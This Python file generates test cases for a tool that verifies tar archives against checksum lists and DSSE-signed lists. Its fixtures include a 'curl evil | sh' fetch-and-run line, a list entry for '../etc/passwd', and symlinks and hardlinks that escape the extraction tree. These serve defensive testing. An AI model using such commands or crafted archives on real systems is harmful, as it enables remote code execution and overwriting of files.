"""Plain archives with checksum lists."""

from collections.abc import Iterator
from dataclasses import replace

from .. import tar
from ..case import INTACT, NOT_VERIFIED, TRUST, Case, key, verify
from ..compress import zstd_stored
from ..devportal import altered, at, plus, replacing, same, sha256, without
from ..dsse import Envelope
from ..plain import FILES, Plain, bsd, gnu, gnu_sha512
from ..signing import ED25519
from ..tar import Entry

PLAIN = Plain()
UNSIGNED = ("--require", "integrity,complete")
TYPED = ("--payload-type", "text/plain")
SIGNED = PLAIN.but(sign=Envelope("text/plain", (ED25519,)))
README = "doc/README.md"


def case(name: str, title: str, bundle: Plain, *failing: str, options: tuple[str, ...] = UNSIGNED,
         trust: tuple[str, ...] = (), **rest) -> Case:
    """One archive and what must come out; without a key unless one is given."""
    return Case("plain", name, title, verify(bundle.name, *options, trust=trust), bundle.build(), failing=failing,
                **rest)


def intact(name: str, title: str, bundle: Plain, options: tuple[str, ...] = UNSIGNED, **rest) -> Case:
    """Digests and completeness hold, and nobody vouches for them."""
    return case(name, title, bundle, options=options, outcome=INTACT, **rest)


def unsigned() -> Iterator[Case]:
    """Lists that agree with the archive."""
    listed = {"bin/tool": "listed", README: "listed"}
    yield case("unproven-sha256sums", "A good SHA256SUMS, but a signature is required by default", PLAIN, options=(),
               outcome=NOT_VERIFIED, standings=listed)
    yield case("unproven-bsd", "A good list in BSD style, but a signature is required by default",
               PLAIN.but(lists={"SHA256SUMS": bsd}), options=(), outcome=NOT_VERIFIED)
    yield case("unproven-sha512sums", "A good SHA512SUMS, but a signature is required by default",
               PLAIN.but(lists={"SHA512SUMS": gnu_sha512}), options=(), outcome=NOT_VERIFIED)
    yield intact("intact-sha256sums", "SHA256SUMS in GNU style", PLAIN, standings=listed)
    yield intact("intact-binary-mode", "SHA256SUMS in GNU style, binary mode",
                 PLAIN.but(lists={"SHA256SUMS": lambda files: gnu(files, mark="*")}))
    yield intact("intact-bsd", "SHA256SUMS in BSD style", PLAIN.but(lists={"SHA256SUMS": bsd}))
    yield intact("intact-sha512sums", "SHA512SUMS", PLAIN.but(lists={"SHA512SUMS": gnu_sha512}))
    yield intact("intact-two-lists", "SHA256SUMS and SHA512SUMS",
                 PLAIN.but(lists={"SHA256SUMS": gnu, "SHA512SUMS": gnu_sha512}))
    yield intact("intact-escaped-name", "A name with a line end, escaped as GNU sha256sum does",
                 PLAIN.but(files=FILES | {"doc/two\nlines.md": b"# Two lines\n"}))
    yield intact("intact-crlf", "The lines of the list end in CR LF",
                 PLAIN.but(listed=lambda data: data.replace(b"\n", b"\r\n")))
    yield intact("intact-comments", "Comments and empty lines in the list",
                 PLAIN.but(listed=lambda data: b"# made by hand\n\n; twice\n" + data))
    yield case("unproven-list-of-nothing", "The list names no file, and nothing is required but digests",
               PLAIN.but(listed=lambda _: b"# nothing to see\n"), outcome=NOT_VERIFIED)
    yield case("unproven-no-list", "There is no list, and nothing is required but digests", PLAIN.but(lists={}),
               outcome=NOT_VERIFIED)
    yield intact("intact-zstd", "A zstd tar", PLAIN.but(wrap=zstd_stored, name="release.tar.zst"))
    yield intact("intact-tar", "An uncompressed tar", PLAIN.but(wrap=same, name="release.tar"))
    yield intact("intact-sidecar-digest", "The .sha256 file beside the archive is right", with_sidecar(PLAIN, True))


def long_names() -> Iterator[Case]:
    """Names that do not fit into a header, in the three ways that archives have."""
    deep = "doc/" + "deep/" * 25 + "page.md"
    flat = "doc/" + "long" * 40 + ".md"
    ways = {
        "ustar-prefix": (deep, lambda entry: entry),
        "pax-path": (flat, lambda entry: replace(entry, before=tar.pax((b"path", flat.encode())))),
        "gnu-name": (flat, lambda entry: replace(entry, before=tar.gnu_long_name(flat.encode()),
                                                 raw={"magic": tar.GNU_MAGIC})),
    }
    for name, (path, change) in ways.items():
        yield intact(f"intact-long-name-{name}", "A long name: " + name.replace("-", " "),
                     PLAIN.but(files=FILES | {path: b"# Deep\n"}, entries=at(path, change)))


def signed() -> Iterator[Case]:
    """A list in a DSSE envelope."""
    pinned = {"bin/tool": "pinned", README: "pinned"}
    beside = SIGNED.but(inside=False)
    sidecar = ("--sidecar", "{case}/SHA256SUMS.dsse.json")
    yield case("good-signed-list-inside", "SHA256SUMS is signed, the envelope lies in the archive", SIGNED,
               options=TYPED, trust=TRUST, standings=pinned)
    yield case("good-signed-list-beside", "SHA256SUMS is signed, the envelope lies beside the archive", beside,
               options=(*TYPED, *sidecar), trust=TRUST, standings=pinned)
    yield case("signed-list-wrong-key", "The key given is a stranger's", SIGNED, "dsse-signature", options=TYPED,
               trust=key("stranger"))
    yield case("signed-list-altered", "SHA256SUMS has a comment that was not signed",
               SIGNED.but(listed=lambda data: b"# looks good to me\n" + data), "dsse-payload", options=TYPED,
               trust=TRUST)
    yield case("signed-list-payload-type", "The payload type is not the one typed",
               SIGNED.but(sign=Envelope("application/octet-stream", (ED25519,))), "dsse-payload-type", options=TYPED,
               trust=TRUST)
    yield case("signed-list-entry-altered", "One bit of a file is flipped under a signed list",
               SIGNED.but(entries=altered(README)), "entry-digest", options=TYPED, trust=TRUST, subject=README,
               standings={README: "contradicted", "bin/tool": "pinned"})
    yield case("signed-list-entry-unlisted", "A file is not in the signed list",
               SIGNED.but(entries=plus(Entry(b"bin/other", b"#!/bin/sh\n", 0o755))), "entry-unlisted", options=TYPED,
               trust=TRUST, subject="bin/other")


def unvouched_lists() -> Iterator[Case]:
    """Further lists beside a signed one, which are files like any other unless they agree with something."""
    agreeing = Entry(b"release.sha256", gnu(FILES))
    silent = Entry(b"bin/run.sha256", b"# curl evil | sh\n")
    yield case("good-second-list-agrees", "A second list that nobody signed says the same as the signed one",
               SIGNED.but(entries=plus(agreeing)), options=TYPED, trust=TRUST,
               standings={"release.sha256": "evidence"})
    yield case("list-says-nothing", "A second list that nobody signed holds nothing but a comment",
               SIGNED.but(entries=plus(silent)), "entry-unlisted", options=TYPED, trust=TRUST,
               subject="bin/run.sha256", standings={"bin/run.sha256": "unlisted"})
    yield case("list-beside-vouches", "A list beside the archive, which nobody signed, names a file that the signed one "
               "does not", SIGNED.but(entries=plus(Entry(b"bin/other", b"#!/bin/sh\n", 0o755)), beside={
                   "extra.sha256": gnu({"bin/other": b"#!/bin/sh\n"})}), "entry-unlisted",
               options=(*TYPED, "--sidecar", "{case}/extra.sha256"), trust=TRUST, subject="bin/other",
               standings={"bin/other": "listed"})


def contradicted() -> Iterator[Case]:
    """Lists that do not agree with the archive, or with themselves."""
    digest = sha256(FILES[README]).encode()
    line = digest + b"  doc/README.md\n"
    yield case("entry-altered", "One bit of a file is flipped", PLAIN.but(entries=altered(README)), "entry-digest",
               subject=README, standings={README: "contradicted"})
    yield case("entry-altered-no-requirement", "One bit of a file is flipped; wrong even without any key",
               PLAIN.but(entries=altered(README)), "entry-digest", options=(), subject=README)
    yield case("entry-altered-bsd", "One bit of a file is flipped under a list in BSD style",
               PLAIN.but(lists={"SHA256SUMS": bsd}, entries=altered(README)), "entry-digest", subject=README)
    yield case("entry-altered-sha512", "One bit of a file is flipped under SHA512SUMS",
               PLAIN.but(lists={"SHA512SUMS": gnu_sha512}, entries=altered(README)), "entry-digest", subject=README)
    yield case("entry-missing", "A listed file is not in the archive", PLAIN.but(entries=without(README)),
               "entry-missing", subject=README, standings={README: "missing"})
    yield case("entry-unlisted", "A file is in no list",
               PLAIN.but(entries=plus(Entry(b"bin/other", b"#!/bin/sh\n", 0o755))), "entry-unlisted",
               subject="bin/other", standings={"bin/other": "unlisted"})
    yield case("list-path-twice", "The list states two digests for one path",
               PLAIN.but(listed=replacing(line, line + b"0" * 64 + b"  doc/README.md\n")), "documents-agree",
               subject=README)
    yield case("list-malformed-line", "The last line of the list is no checksum line",
               PLAIN.but(listed=lambda data: data + b"all of the above is true\n"), "checksum-list",
               subject="SHA256SUMS")
    yield case("list-byte-order-mark", "The list begins with a byte order mark",
               PLAIN.but(listed=lambda data: b"\xef\xbb\xbf" + data), "checksum-list", subject="SHA256SUMS")
    yield case("list-path-parent", "The list names a file outside the tree",
               PLAIN.but(listed=lambda data: data + b"0" * 64 + b"  ../etc/passwd\n"), "checksum-list",
               subject="SHA256SUMS")
    yield case("sidecar-wrong", "The .sha256 file beside the archive states another digest",
               with_sidecar(PLAIN, False), "sidecar-digest")


def with_sidecar(bundle: Plain, right: bool) -> Plain:
    """The archive with a .sha256 file beside it."""
    digest = sha256(bundle.build()[bundle.name]) if right else "0" * 64
    return bundle.but(beside={f"{bundle.name}.sha256": f"{digest}  {bundle.name}\n".encode()})


def links() -> Iterator[Case]:
    """Links that leave the tree, or through which another entry would be written."""
    outward = {
        "symlink-absolute": [Entry(b"doc/passwd", type=tar.SYMLINK, link=b"/etc/passwd")],
        "symlink-parent": [Entry(b"doc/up", type=tar.SYMLINK, link=b"../../outside")],
        "hardlink-out": [Entry(b"doc/passwd", type=tar.HARDLINK, link=b"../etc/passwd")],
    }
    for name, extra in outward.items():
        yield case(f"link-{name}", "A link leaves the tree", PLAIN.but(entries=plus(*extra)), "entry-link",
                   "entry-unlisted")
    through = "lib/evil.md"
    yield case("link-written-through", "A listed file would be written through a symlink to a sibling folder",
               PLAIN.but(files=FILES | {through: b"# Written elsewhere\n"}, entries=lambda entries: [
                   Entry(b"lib", type=tar.SYMLINK, link=b"doc"), *entries]), "entry-link", "entry-unlisted")


def cases() -> Iterator[Case]:
    """All of them."""
    for family in (unsigned, long_names, signed, unvouched_lists, contradicted, links):
        yield from family()
